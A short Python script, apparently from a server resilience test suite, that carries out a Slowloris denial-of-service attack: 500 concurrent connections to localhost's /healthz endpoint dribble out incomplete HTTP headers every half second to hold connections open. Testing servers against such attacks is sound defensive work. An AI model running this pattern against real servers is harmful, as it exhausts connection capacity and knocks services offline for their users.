"""Send request headers a few bytes at a time on 500 connections (Slowloris)."""

from attacker import Attacker, run


async def attack(attacker: Attacker) -> None:
    async def client(number: int) -> None:
        await attacker.occupy(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n", b"X-a: b\r\n", pause=0.5)

    await attacker.gather(500, client)


if __name__ == "__main__":
    run(attack)
